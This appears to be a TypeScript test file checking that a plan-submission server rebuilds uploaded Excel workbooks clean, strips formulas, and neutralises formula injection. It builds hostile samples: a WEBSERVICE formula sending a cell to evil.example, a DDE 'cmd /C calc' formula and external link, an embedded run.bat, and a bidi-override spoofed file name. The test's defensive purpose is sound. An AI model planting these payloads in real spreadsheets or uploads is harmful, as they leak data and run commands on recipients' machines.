// What is stored is what was checked: a submitted workbook carrying live formulas in cells the check does not read, a
// DDE external link, an embedded zip and a large extra part is accepted (its plan is good), but the file the national
// team downloads is rebuilt by our writer from the checked plan — none of that survives, and openpyxl reads the same
// values — while the original stays available, byte for byte, only as the labelled "original as uploaded". File
// names are ours. Real HTTP, real SQLite, real .xlsx bytes edited with Python's zipfile, read back with openpyxl.
import assert from 'node:assert/strict';
import { randomBytes } from 'node:crypto';
import { mkdtemp, rm, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import ExcelJS from 'exceljs';
import { isoDate, todayIso } from '../shared/cells';
import { PLAN_SHEET } from '../shared/layout';
import { loadOrganisations } from '../server/organisations';
import { checkWorkbook } from '../server/xlsx/checkWorkbook';
import { writeFilledPlan, writePlanWorkbook } from '../server/xlsx/writePlanWorkbook';
import { zip } from './helpers/hostile';
import { openpyxlSees, sheetSeen } from './helpers/openpyxl';
import { contentCells, fillWorkbook, goodPlanContent, type PlanContent } from './helpers/plans';
import { call, startTestServer, XLSX_TYPE, type TestServer } from './helpers/server';
import { editZip, zipPartNames, zipPartText, zipTexts } from './helpers/zipParts';

const organisations = loadOrganisations();
const TYPED_FORMULA = '=HYPERLINK("http://evil.example/typed","Open the dashboard") then review the MDT pathway for every patient';
const R = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships';

/** The good RGT plan, with a typed formula-like action text (read, so checked and kept as text). */
function content(): PlanContent {
  const c = goodPlanContent('RGT');
  c.actions[0]!.action = TYPED_FORMULA;
  return c;
}

/** The plan workbook with live formulas in unread cells, a DDE external link, an embedded zip and a 4 MB extra part. */
async function hostileUpload(): Promise<Buffer> {
  const wb = new ExcelJS.Workbook();
  await wb.xlsx.load((await fillWorkbook(await writePlanWorkbook({ organisations }), content())) as unknown as ArrayBuffer);
  const ws = wb.getWorksheet(PLAN_SHEET)!;
  ws.getCell('K5').value = { formula: 'HYPERLINK("http://evil.example/x","Click to verify")', result: 'Click to verify' };
  ws.getCell('K6').value = { formula: "cmd|' /C calc'!A0", result: 0 };
  ws.getCell('K7').value = { formula: 'WEBSERVICE("http://evil.example/leak?"&B2)', result: '' };
  const withFormulas = Buffer.from(await wb.xlsx.writeBuffer());
  return editZip(withFormulas, {
    replace: {
      '[Content_Types].xml': [['</Types>', '<Override PartName="/xl/externalLinks/externalLink1.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.externalLink+xml"/><Default Extension="zip" ContentType="application/zip"/><Default Extension="bin" ContentType="application/octet-stream"/></Types>']],
      'xl/_rels/workbook.xml.rels': [['</Relationships>', `<Relationship Id="rIdEvil" Type="${R}/externalLink" Target="externalLinks/externalLink1.xml"/></Relationships>`]],
      'xl/workbook.xml': [['</sheets>', '</sheets><externalReferences><externalReference r:id="rIdEvil"/></externalReferences>']],
    },
    add: {
      'xl/externalLinks/externalLink1.xml': '<?xml version="1.0" encoding="UTF-8" standalone="yes"?><externalLink xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><ddeLink ddeService="cmd" ddeTopic="/C calc"><ddeItems><ddeItem name="A0" advise="1"/></ddeItems></ddeLink></externalLink>',
      'xl/embeddings/payload.zip': zip([{ name: 'run.bat', data: 'calc.exe\r\n' }]),
      'xl/media/big.bin': randomBytes(4 * 1024 * 1024),
    },
    stored: ['xl/media/big.bin'],
  });
}

describe('stored submissions: the download is rebuilt from the checked plan; the original only as labelled', function () {
  this.timeout(120_000);
  let s: TestServer;
  let dir: string;
  let key: string;
  let upload: Buffer;
  let id: string;
  let rebuilt: Awaited<ReturnType<typeof call>>;
  const day = todayIso().replace(/-/g, '');

  before(async () => {
    dir = await mkdtemp(join(tmpdir(), 'naome-stored-'));
    s = await startTestServer();
    key = await s.issueKey('RGT');
    upload = await hostileUpload();
    const names = zipPartNames(upload);
    for (const part of ['xl/externalLinks/externalLink1.xml', 'xl/embeddings/payload.zip', 'xl/media/big.bin']) assert.ok(names.includes(part), part);
    assert.match(zipPartText(upload, 'xl/worksheets/sheet1.xml'), /<f>cmd\|(&apos;|') \/C calc/, 'the upload carries the DDE formula');
    const sent = await call(s.url, 'POST', '/api/submissions', {
      key, body: upload, headers: { 'x-file-name': encodeURIComponent('invoice\u202Eslx.exe') },
    });
    assert.equal(sent.status, 201, JSON.stringify(sent.json));
    id = sent.json.id;
    rebuilt = await call(s.url, 'GET', `/api/submissions/${id}/file`, { key: s.adminKey });
  });
  after(async () => {
    await s?.close();
    if (dir) await rm(dir, { recursive: true, force: true });
  });

  it('serves a workbook with exactly the parts of our own template: no external link, embedded file or extra part', async () => {
    assert.equal(rebuilt.status, 200);
    assert.equal(rebuilt.headers.get('content-type'), XLSX_TYPE);
    const ours = zipPartNames(await writePlanWorkbook({ organisations })).sort();
    assert.deepEqual(zipPartNames(rebuilt.bytes).sort(), ours);
    assert.ok(rebuilt.bytes.length < 200 * 1024, `${rebuilt.bytes.length} bytes`);
  });

  it('holds no formula and nothing of the hostile cells, and keeps typed formula-like text as text', () => {
    const texts = zipTexts(rebuilt.bytes);
    for (const [part, text] of Object.entries(texts)) {
      assert.doesNotMatch(text, /evil\.example\/x|WEBSERVICE|cmd\||ddeLink|externalReference/, part);
      if (part.startsWith('xl/worksheets/')) assert.doesNotMatch(text, /<f[ >]/, `${part}: no cell formula`);
    }
    const all = Object.values(texts).join('');
    assert.ok(all.includes('=HYPERLINK(&quot;http://evil.example/typed&quot;'), 'the typed text is kept, as a string');
  });

  it('is read by openpyxl with the same values as the plan that was checked', async () => {
    const path = join(dir, 'rebuilt.xlsx');
    await writeFile(path, rebuilt.bytes);
    const cells = sheetSeen(openpyxlSees(path), PLAN_SHEET).cells;
    const expected = contentCells(content());
    assert.ok(expected.length > 20);
    for (const { cell, value } of expected) {
      const want = value instanceof Date ? isoDate(value) : value ?? undefined;
      assert.equal(cells[cell], want, cell);
    }
    for (const cell of ['K5', 'K6', 'K7']) assert.equal(cells[cell], undefined, `${cell} is not carried over`);
    // And our own checker finds the same plan in it, valid.
    const fromUpload = await checkWorkbook(upload, { organisations });
    const fromRebuilt = await checkWorkbook(rebuilt.bytes, { organisations });
    assert.equal(fromRebuilt.result.valid, true, JSON.stringify(fromRebuilt.result.findings));
    assert.deepEqual(fromRebuilt.plan, fromUpload.plan);
  });

  it('names downloads ODS-vN-YYYYMMDD, never with the uploader\'s name, which is kept only cleaned, as metadata', async () => {
    assert.equal(rebuilt.headers.get('content-disposition'), `attachment; filename=RGT-v1-${day}.xlsx`);
    const original = await call(s.url, 'GET', `/api/submissions/${id}/original`, { key });
    assert.equal(original.headers.get('content-disposition'), `attachment; filename=RGT-v1-${day}-original.xlsx`);
    const stored = await call(s.url, 'GET', `/api/submissions/${id}`, { key });
    assert.equal(stored.json.result.file, 'invoiceslx.exe', 'no bidi override in the kept name');
  });

  it('serves the original as uploaded, byte for byte, to the organisation and the admin only', async () => {
    for (const k of [key, s.adminKey]) {
      const original = await call(s.url, 'GET', `/api/submissions/${id}/original`, { key: k });
      assert.equal(original.status, 200);
      assert.ok(original.bytes.equals(upload), 'byte-identical');
    }
    const other = await call(s.url, 'GET', `/api/submissions/${id}/original`, { key: await s.issueKey('RTH') });
    assert.equal(other.status, 404);
  });

  it('rebuilds a plan sent as JSON into the same workbook form; its original is the JSON', async () => {
    const plan = (await checkWorkbook(upload, { organisations })).plan!;
    // Revised (the same plan again would be answered with version 1's receipt).
    plan.header.auditLead = 'Dr Mary Brown';
    const body = JSON.stringify(plan);
    const sent = await call(s.url, 'POST', '/api/submissions', { key, body });
    assert.equal(sent.status, 201, JSON.stringify(sent.json));
    const file = await call(s.url, 'GET', `/api/submissions/${sent.json.id}/file`, { key });
    assert.equal(file.headers.get('content-disposition'), `attachment; filename=RGT-v2-${day}.xlsx`);
    assert.deepEqual((await checkWorkbook(file.bytes, { organisations })).plan, plan);
    const original = await call(s.url, 'GET', `/api/submissions/${sent.json.id}/original`, { key });
    assert.equal(original.headers.get('content-disposition'), `attachment; filename=RGT-v2-${day}-original.json`);
    assert.equal(original.bytes.toString('utf8'), body);
  });

  it('collates from the plan model: the typed formula is inert, and nothing of the upload\'s formulas appears', async () => {
    const xlsx = await call(s.url, 'GET', '/api/collation.xlsx', { key: s.adminKey });
    const text = Object.values(zipTexts(xlsx.bytes)).join('');
    assert.doesNotMatch(text, /<f[ >]|evil\.example\/x|cmd\|/);
    assert.match(text, /(&apos;|')=HYPERLINK\((&quot;|")http:\/\/evil\.example\/typed/, 'the typed text starts with an apostrophe');
    const csv = (await call(s.url, 'GET', '/api/collation.csv', { key: s.adminKey })).bytes.toString('utf8');
    assert.ok(csv.includes(`"'=HYPERLINK(""http://evil.example/typed""`));
  });

  it('writeFilledPlan places actions whose rows fall outside their block in the block\'s free rows', async () => {
    const plan = (await checkWorkbook(upload, { organisations })).plan!;
    const moved = { ...plan, actions: plan.actions.map((a, i) => (i === 0 ? { ...a, row: 1 } : a)) };
    const read = await checkWorkbook(await writeFilledPlan(moved, { organisations }), { organisations });
    assert.equal(read.plan!.actions.length, plan.actions.length);
    assert.deepEqual(read.plan!.actions.map((a) => a.action).sort(), plan.actions.map((a) => a.action).sort());
    await assert.rejects(writeFilledPlan({ ...plan, template: { id: 'nope', version: 1 } }, { organisations }), /template "nope" version 1/);
  });
});
